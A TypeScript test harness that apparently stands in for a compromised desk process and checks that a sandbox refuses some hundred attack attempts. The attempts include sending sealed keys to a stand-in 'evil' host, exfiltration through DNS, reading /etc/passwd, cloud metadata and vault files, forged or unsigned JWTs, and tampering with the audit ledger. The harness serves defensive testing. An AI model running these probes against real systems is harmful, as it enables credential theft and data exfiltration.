/**
 * Runs in place of the desk's entry point, with the desk's own flags and environment, like a program that has taken
 * over the desk: it has every record and ticket that the desk ever had, and tries to use them. Prints the outcome of
 * each attempt as a line of JSON: `denied`, a refusal's code, what it obtained, or that no answer arrived in time.
 */

import fs from "node:fs";
import { createHmac } from "node:crypto";
import { lookup } from "node:dns/promises";
import { DatabaseSync } from "node:sqlite";
import { z } from "zod";
import { openClient } from "../../ipc/client.ts";
import { connectSandbox, SILENT_SANDBOX } from "../../sandbox/client.ts";
import { type OutboundCustomer, type OutboundRequest, sealedSchema } from "../../sandbox/protocol.ts";
import { NO_ANSWER } from "./outcomes.ts";

const places = z.strictObject({
  data: z.string(),
  /** The app that the desk was configured for, and a host of the attacker. */
  app: z.string(),
  evil: z.string(),
  /** The operator's model. */
  model: z.string(),
  /**
   * Records: the current one, the one that it replaced, a removed one, one of another workspace, the identity secret.
   */
  live: sealedSchema,
  replaced: sealedSchema,
  removed: sealedSchema,
  foreign: sealedSchema,
  identity: z.strictObject({ name: z.string(), sealed: sealedSchema }),
  /** Tickets: of a signed-in customer, of one in another workspace, and an expired one. */
  ticket: z.string(),
  foreignTicket: z.string(),
  endedTicket: z.string(),
});

const at = places.parse(JSON.parse(Deno.args[0] ?? "null"));
const socketPath = `${at.data}/run/sandbox.sock`;
const sandbox = connectSandbox({ socketPath });
const client = openClient({ socketPath, questionBytesMax: 1 << 24, answerBytesMax: 1 << 24 });
const MARKER = "dGFrZW4tb3Zlci1ieS1hLXRlc3Q";
const KEY = `{secrets.KEY#${MARKER}}`;
const USER = `{user.id#${MARKER}}`;
const ledger = `${at.data}/ledger`;
const freezeFile = `${at.data}/freeze.json`;

type Probe = () => unknown;

/** A request as the desk makes it; `change` is the attacker's modification. */
function request(url: string, change: Partial<OutboundRequest> = {}): OutboundRequest {
  const base = { door: "action", workspace: "w1", method: "GET", headers: {}, body: null, marker: MARKER } as const;
  return { ...base, url, secrets: {}, customer: null, call: null, deadlineMs: 5000, ...change };
}

const call = (url: string, change: Partial<OutboundRequest> = {}) => sandbox.call(request(url, change));
const withKey = (url: string, sealed = at.live, change: Partial<OutboundRequest> = {}) =>
  call(url, { headers: { "x-key": KEY }, secrets: { KEY: sealed }, ...change });
const forCustomer = (url: string, customer: OutboundCustomer | null, change: Partial<OutboundRequest> = {}) =>
  withKey(url, at.live, { customer, ...change });
const ticketOf = (ticket: string): OutboundCustomer => ({ kind: "ticket", ticket });
const ask = async (method: string, value: unknown) => {
  const answer = await client.ask({ method, value, timeMs: 5000 });
  return answer.kind === "none" ? answer.reason : answer.value;
};
const base64url = (value: unknown) =>
  new TextEncoder().encode(JSON.stringify(value)).toBase64({ alphabet: "base64url", omitPadding: true });
const forged = (secret: string, header: unknown, claims: unknown) => {
  const signed = `${base64url(header)}.${base64url(claims)}`;
  return `${signed}.${createHmac("sha256", secret).update(signed).digest("base64url")}`;
};
const FAR = 4_000_000_000;
const identify = (token: string) => sandbox.identify({ workspace: "w1", token, secrets: [at.identity] });

/** An email to the attacker's server. */
const mailTo = (password: unknown) => ({
  workspace: "w1",
  fromName: null,
  replyTo: null,
  inReplyTo: null,
  references: [],
  files: [],
  unsubscribeUrl: null,
  server: { kind: "own", host: "localhost", port: 587, tls: "tls", user: "u", password, from: "a@desk.example" },
  to: { address: "b@evil.example", name: null },
  subject: "",
  text: "",
  html: "",
  messageId: "<1@desk.example>",
  automatic: true,
  deadlineMs: 5000,
});
const pushBy = (sealed: unknown) =>
  JSON.stringify({
    message: "the database",
    browser: { p256dh: "A".repeat(87), auth: "A".repeat(22) },
    vapid: { publicKey: "A".repeat(87), sealed },
    subject: "mailto:a@desk.example",
    topic: "t",
    ttlS: 0,
  });

const KEYS: Readonly<Record<string, Probe>> = {
  "key: send it to another host": () => withKey(at.evil),
  "key: send it to another host by its query": () => call(`${at.evil}/?k=${KEY}`, { secrets: { KEY: at.live } }),
  "key: send it in the path": () => call(`${at.app}/${KEY}`, { secrets: { KEY: at.live } }),
  "key: put it into the host": () => call(`http://${KEY}.localhost/`, { secrets: { KEY: at.live } }),
  "key: use the record that it replaced": () => withKey(at.app, at.replaced),
  "key: use a removed record": () =>
    call(at.app, { headers: { "x-key": `{secrets.GONE#${MARKER}}` }, secrets: { GONE: at.removed } }),
  "key: use a record of another workspace": () => withKey(at.app, at.foreign),
  "key: use a record under another name": () =>
    call(at.app, { headers: { "x-key": `{secrets.OTHER#${MARKER}}` }, secrets: { OTHER: at.live } }),
  "key: send an identity secret": () => withKey(at.app, at.identity.sealed),
  "key: raise the number of a replaced record": () => withKey(at.app, { ...at.replaced, seq: at.live.seq + 1 }),
  "key: mix two records": () => withKey(at.app, { ...at.replaced, ct: at.live.ct, seq: at.live.seq + 1 }),
  "key: send it to the model of another host": () =>
    withKey(`${at.evil}/v1/chat/completions`, at.live, { door: "model", method: "POST" }),
  "key: send it to a website": () => withKey(at.app, at.live, { door: "crawl" }),
  "key: bind it to another host": () =>
    ask("bind", { workspace: "w1", name: "KEY", sealed: at.live, origins: [at.evil] }),
  "key: open it": () => ask("open", { workspace: "w1", name: "KEY", sealed: at.live }),
  "key: open the identity secret": () => ask("open", { workspace: "w1", ...at.identity }),
  "key: ask for the vault": () => ask("vault", null),
  "key: read its folder": () => Array.from(Deno.readDirSync(`${at.data}/keys`)),
  "key: read the vault file": () => Deno.readTextFileSync(`${at.data}/keys/vault.json`),
  "key: read the first key file": () => Deno.readTextFileSync(`${at.data}/keys/1.key`),
  "key: read a backup that is being made": () =>
    Deno.readTextFileSync(`${at.data}/backups/backup-1/desk-2026-11-26T030000.backup`),
  "key: read the keys of a backup that is tried": () => Deno.readTextFileSync(`${at.data}/backups/verify-1/keys/1.key`),
  "key: read a backup in the project's folder": () =>
    Deno.readTextFileSync(new URL("../../desk-2026-11-26T030000.backup", import.meta.url)),
  "key: read the key of the sheets": () => Deno.readTextFileSync(`${at.data}/keys/prove.jwk`),
  "key: load the vault file as a module": () => import(`${at.data}/keys/vault.json`, { with: { type: "json" } }),
  "key: open the vault file as a database": () => new DatabaseSync(`${at.data}/keys/vault.json`),
  "key: as the secret of a webhook": () =>
    withKey(at.evil, at.live, {
      door: "webhook",
      method: "POST",
      body: "{}",
      headers: {
        "content-type": "application/json",
        "webhook-id": "1",
        "webhook-timestamp": "1",
        "webhook-signature": KEY,
      },
    }),
  "key: as the password of a mail server": () => ask("mail", mailTo({ name: "KEY", sealed: at.live })),
  "key: sign a push with its record": () =>
    ask("call", request("https://1.1.1.1/1", { door: "push", method: "POST", body: pushBy(at.live) })),
  "key: as the secret of an authenticator app": () =>
    ask("totp_check", { account: "w1", sealed: at.live, code: "000000" }),
  "key: guess it a thousand times": async () => {
    for (let n = 0; n < 1000; n++) {
      const answer = await sandbox.compareSecret({ workspace: "w1", name: "KEY" }, at.live, `guess-${n}-of-it`);
      if (answer.kind !== "compared") return answer;
    }
    return "compared";
  },
  "key: compare with the identity secret": () =>
    ask("compare_secret", { workspace: "w1", ...at.identity, value: "0123456789abcdef" }),
  "key: write the vault file": () => Deno.writeTextFileSync(`${at.data}/keys/vault.json`, "{}"),
  "key: the model's key from the environment": () => Deno.env.get("SVC_MODEL_KEY"),
  "key: the sandbox's environment": () => Deno.readTextFileSync(`/proc/${Deno.ppid}/environ`),
  // Last of its group: the app's response is masked, in whichever encoding.
  "open: use the live key where it belongs": () => withKey(`${at.app}/echo`),
};

const IDENTITY: Readonly<Record<string, Probe>> = {
  "identity: a token without a signature": () =>
    identify(`${base64url({ alg: "none" })}.${base64url({ sub: "u_1", exp: FAR })}.`),
  "identity: a token signed with an empty secret": () =>
    identify(forged("", { alg: "HS256" }, { sub: "u_1", exp: FAR })),
  "identity: a token signed with its record": () =>
    identify(forged(at.identity.sealed.ct, { alg: "HS256" }, { sub: "u_1", exp: FAR })),
  "identity: the ticket as a token": () => identify(at.ticket),
  "identity: verify with a key's record": () =>
    sandbox.identify({
      workspace: "w1",
      token: forged("x", { alg: "HS256" }, { sub: "u_1", exp: FAR }),
      secrets: [{ name: "KEY", sealed: at.live }],
    }),
  "identity: set the secret by the operation of keys": () =>
    sandbox.setSecret({ workspace: "w1", name: at.identity.name }, { value: "0123456789abcdef", origins: [] }),
  "identity: set it with an origin": () =>
    sandbox.setSecret({ workspace: "w1", name: at.identity.name }, { value: "0123456789abcdef", origins: [at.evil] }),
};

const customers: Readonly<Record<string, OutboundCustomer | null>> = {
  "without a ticket": null,
  "with an empty ticket": ticketOf(""),
  "with a made-up ticket": ticketOf(
    forged("x", { alg: "HS256" }, { sub: "u_2", aud: "desk-ticket", workspace: "w1", exp: FAR }),
  ),
  "with an unsigned ticket": ticketOf(
    `${base64url({ alg: "none" })}.${base64url({ sub: "u_2", aud: "desk-ticket", workspace: "w1", exp: FAR })}.`,
  ),
  "with a ticket of another workspace": ticketOf(at.foreignTicket),
  "with a ticket that has ended": ticketOf(at.endedTicket),
  // Not the last letter, of whose six bits two are not part of the signature.
  "with a ticket whose signature begins with another letter": ticketOf(
    at.ticket.replace(/\.([\w-])([\w-]+)$/, (_, first, rest) => `.${first === "A" ? "B" : "A"}${rest}`),
  ),
  "with a ticket for another customer": ticketOf(
    [at.ticket.split(".")[0], base64url({ sub: "u_2", exp: FAR }), at.ticket.split(".")[2]].join("."),
  ),
  "named at the door of tickets": { kind: "named", userId: "u_2" },
};

const CUSTOMERS: Readonly<Record<string, Probe>> = {
  ...Object.fromEntries(
    Object.entries(customers).map(([how, customer]) => [
      `customer: ${how}`,
      () => forCustomer(`${at.app}/customers/${USER}`, customer),
    ]),
  ),
  "customer: a ticket at the door of named customers": () =>
    forCustomer(`${at.app}/customers/${USER}`, ticketOf(at.ticket), { door: "named" }),
  "customer: none at the door of named customers": () =>
    forCustomer(`${at.app}/customers/u_2`, null, { door: "named" }),
  "customer: by the model's door": () =>
    forCustomer(`${at.app}/customers/${USER}`, ticketOf(at.ticket), { door: "model" }),
  "customer: put the id into the host": () => forCustomer(`http://${USER}.localhost/`, ticketOf(at.ticket)),
  "open: for the customer who is signed in": () => forCustomer(`${at.app}/customers/${USER}`, ticketOf(at.ticket)),
  "open: an id written into the address": () => forCustomer(`${at.app}/customers/u_2`, null),
  "open: a customer named at the door for that": () =>
    forCustomer(`${at.app}/customers/${USER}`, { kind: "named", userId: "u_2" }, { door: "named" }),
  "customer: named beyond the limit": async () => {
    for (let n = 0; n < 4; n++) {
      await forCustomer(`${at.app}/customers/${USER}`, { kind: "named", userId: `u_${n}` }, { door: "named" });
    }
    return await forCustomer(`${at.app}/customers/${USER}`, { kind: "named", userId: "u_9" }, { door: "named" });
  },
};

const DOORS: Readonly<Record<string, Probe>> = {
  "door: one that does not exist": () => ask("call", { ...request(at.app), door: "any" }),
  "door: no door": () => ask("call", { ...request(at.app), door: undefined }),
  "door: the sandbox's own socket by its address": () => call("http://127.0.0.1:1/"),
  "door: a private address": () => call("https://10.0.0.1/"),
  "door: the machine's metadata": () => call("http://169.254.169.254/latest/meta-data"),
  "door: a file": () => call("file:///etc/passwd"),
  "door: write to a website": () => call(at.evil, { door: "crawl", method: "POST", body: "data" }),
  "door: headers to a website": () => call(at.evil, { door: "crawl", headers: { cookie: "data" } }),
  "door: stream an action": () => sandbox.stream(request(at.app)),
  "door: a path beside the model's": () => call(`${at.model}/../admin`, { door: "model" }),
  "door: a path that no model needs": () => call(`${at.model}/files`, { door: "model", method: "POST", body: "{}" }),
  "door: read as an AI client's document": () => call(at.evil, { door: "client" }),
  "door: an object outside the files": () => ask("object_get", { key: "../backups/desk-2026-11-26T030000.backup" }),
  "door: an object of the backups": () => ask("object_put", { key: "files/../../backups/a", sha256: "0".repeat(64) }),
  "door: spans to a collector": () => ask("spans", { spans: [], endpoint: at.evil }),
  "door: an email without a password": () => ask("mail", mailTo(null)),
  "door: remove at the model": () => call(`${at.model}/chat/completions`, { door: "model", method: "DELETE" }),
};

const code = (path: string) => new URL(`../../${path}`, import.meta.url);

/** Attempts through the sleeping extractor, trackers, and the tasks and pages of AI clients. */
const PARTS: Readonly<Record<string, Probe>> = {
  "extractor: start it by itself": () =>
    new Deno.Command(Deno.execPath(), { args: ["run", "-A", code("extractor/main.ts").pathname] }).outputSync(),
  "extractor: start it as a worker with more rights": () =>
    new Worker(code("extractor/main.ts"), { type: "module", deno: { permissions: { read: true, net: true } } })
      .terminate(),
  "extractor: replace its code before it is started": () => Deno.writeTextFile(code("extractor/main.ts"), ""),
  "extractor: move its socket away": () => Deno.renameSync(`${at.data}/run/extractor.sock`, `${at.data}/run/x.sock`),
  "extractor: listen at another address": () =>
    Deno.listen({ transport: "unix", path: `${at.data}/files/extractor.sock` }).close(),
  "tracker: search texts for keys a thousand times": async () => {
    for (let n = 0; n < 1000; n++) {
      const answer = await sandbox.maskSecrets("w1", [`guess-${n}-of-it`]);
      if (answer.kind !== "masked") return answer;
    }
    return "masked";
  },
  "tracker: an issue at a private host": () =>
    withKey("https://10.0.0.1/api/v3/repos/a/b/issues", at.live, { method: "POST", body: "{}" }),
  "tracker: an issue with the key at another host": () =>
    withKey(`${at.evil}/repos/a/b/issues`, at.live, { method: "POST", body: `{"body":"${KEY}"}` }),
  "client: its document with a key": () => withKey("https://1.1.1.1/client.json", at.live, { door: "client" }),
  "client: its document by POST": () =>
    call("https://1.1.1.1/client.json", { door: "client", method: "POST", body: "the database" }),
  "client: its document from a host that is opened for actions": () => call(`${at.app}/c.json`, { door: "client" }),
  "apps: replace the pages of AI clients": () => Deno.writeTextFile(code("build/assets/manifest.json"), "{}"),
  "bundle: replace the code that the supervisor starts": () => Deno.writeTextFile(code("build/desk/desk.js"), ""),
  "bundle: say that other code is current": () => Deno.writeTextFile(code("build/desk.json"), "{}"),
  "bundle: remove it": () => Deno.removeSync(code("build/desk.json")),
  "backup: hold its lock": () => Deno.openSync(`${at.data}/backups/lock`, { read: true, write: true, create: true }),
  "backup: list what was left": () => Array.from(Deno.readDirSync(`${at.data}/backups`)),
};

const LEDGER: Readonly<Record<string, Probe>> = {
  "ledger: append a line": () => Deno.writeTextFileSync(`${ledger}/2026-11.jsonl`, "{}\n", { append: true }),
  "ledger: write a file beside it": () => Deno.writeTextFileSync(`${ledger}/2026-10.jsonl`, "{}\n"),
  "ledger: remove it": () => Deno.removeSync(ledger, { recursive: true }),
  "ledger: rename it": () => Deno.renameSync(ledger, `${at.data}/files/ledger`),
  "ledger: put a link in its place": () => Deno.symlinkSync("/dev/null", `${ledger}/2026-12.jsonl`),
  "ledger: cut it off": () => Deno.truncateSync(`${ledger}/2026-11.jsonl`, 0),
  "ledger: cut it off by node:fs": () => fs.truncateSync(`${ledger}/2026-11.jsonl`),
  "ledger: change its mode": () => Deno.chmodSync(ledger, 0o777),
  "ledger: ask for a line": () => ask("append", { kind: "thaw" }),
  "open: a call with the record of another": () => call(at.evil, { call: "another's record" }),
};

const FREEZE: Readonly<Record<string, Probe>> = {
  "freeze: write the list": () => Deno.writeTextFileSync(freezeFile, "{}"),
  "freeze: remove the list": () => Deno.removeSync(freezeFile),
  "freeze: rename over it": () => Deno.renameSync(`${at.data}/files`, freezeFile),
  "freeze: a link in its place": () => Deno.symlinkSync("/dev/null", freezeFile),
  "freeze: change its mode": () => Deno.chmodSync(freezeFile, 0),
  "freeze: move the data folder": () => Deno.renameSync(at.data, `${at.data}-moved`),
  "freeze: ask for a thaw": () => ask("thaw", null),
};

const FILES: Readonly<Record<string, Probe>> = {
  "file: replace the sandbox's code": () =>
    Deno.writeTextFileSync(new URL("../../sandbox/main.ts", import.meta.url), ""),
  "file: a file for the next start": () => Deno.writeTextFileSync(`${at.data}/.env`, "SVC_ALLOW_PRIVATE=x"),
  "file: run a program": () => new Deno.Command("/bin/true").outputSync(),
  "file: more rights": async () => {
    const { state } = await Deno.permissions.request({ name: "read", path: `${at.data}/keys` });
    if (state !== "granted") throw new Deno.errors.NotCapable(state);
  },
  "socket: listen beside it": () => Deno.listen({ transport: "unix", path: `${at.data}/run/other.sock` }).close(),
  "socket: connect to the host itself": () =>
    Deno.connect({ hostname: "127.0.0.1", port: Number(new URL(at.evil).port) }),
  "socket: fetch": () => fetch(at.evil),
  "socket: a WebSocket": () =>
    new Promise((open, refused) => {
      const socket = new WebSocket(at.evil.replace("http", "ws"));
      socket.onopen = () => open("open");
      socket.onerror = () => refused(new Deno.errors.NotCapable());
    }),
  "socket: a host of this name": () => Deno.connect({ hostname: "sandbox", port: 80 }),
  "socket: look a name up": () => lookup("the-database.evil.example"),
  "socket: look a name up by Deno": () => Deno.resolveDns("the-database.evil.example", "A"),
  "socket: code of another host": () => import(`${at.evil}/${"code"}.ts`),
};

/** Attempts to send data out; unfrozen, those within the operator's rules succeed. */
const DATA_OUT: Readonly<Record<string, Probe>> = {
  "open: data to another host by the action door": () =>
    call(`${at.evil}/collect`, { method: "POST", body: "the database" }),
  "open: data to another host by the model door": () =>
    call(`${at.evil}/v1/chat/completions`, { door: "model", method: "POST", body: "the database" }),
  "open: data in the address of a page": () => call(`${at.evil}/the-database`, { door: "crawl" }),
  "open: a model's question": () => call(`${at.model}/chat/completions`, { door: "model", method: "POST", body: "{}" }),
};

/** Changes of keys and of the identity secret: last, because earlier attempts need the old ones. */
const CHANGES: Readonly<Record<string, Probe>> = {
  "open: set a key of its own": () =>
    sandbox.setSecret({ workspace: "w1", name: "MINE" }, { value: "0123456789", origins: [at.evil] }),
  "open: a new identity secret": async () => {
    const made = await sandbox.identityNew({ workspace: "w1" });
    return made.kind === "made" ? { kind: made.kind } : made;
  },
  "open: end the earlier identity secret": () => sandbox.identityEnd({ workspace: "w1" }),
  "open: remove a key": () => sandbox.removeSecret({ workspace: "w1", name: "MINE" }),
};

const outcomeSchema = z.looseObject({
  kind: z.string(),
  code: z.string().optional(),
  message: z.string().optional(),
  status: z.number().optional(),
});
const DENIED = /cached-only|Requires|EPERM|EACCES|NotCapable/;

async function outcomeOf(probe: Probe): Promise<string> {
  try {
    const got = await probe();
    const answer = outcomeSchema.safeParse(got).data;
    if (got === "timeout" || answer?.message === SILENT_SANDBOX) return NO_ANSWER;
    if (answer === undefined) return `got ${JSON.stringify(got) ?? "it"}`;
    // The whole answer is printed, so that the test can search it for keys.
    return answer.kind === "refused" || answer.kind === "rejected"
      ? `refused ${answer.code}`
      : `got ${JSON.stringify(answer)}`;
  } catch (fault) {
    const text = fault instanceof Error ? `${fault.name}: ${fault.message}` : String(fault);
    return DENIED.test(text) ? "denied" : `failed ${text}`;
  }
}

const groups = [KEYS, IDENTITY, CUSTOMERS, DOORS, PARTS, LEDGER, FREEZE, FILES, DATA_OUT, CHANGES];
const outcomes: Record<string, string> = {};
for (const [name, probe] of groups.flatMap((group) => Object.entries(group))) outcomes[name] = await outcomeOf(probe);
console.log(JSON.stringify(outcomes));
Deno.exit(0);
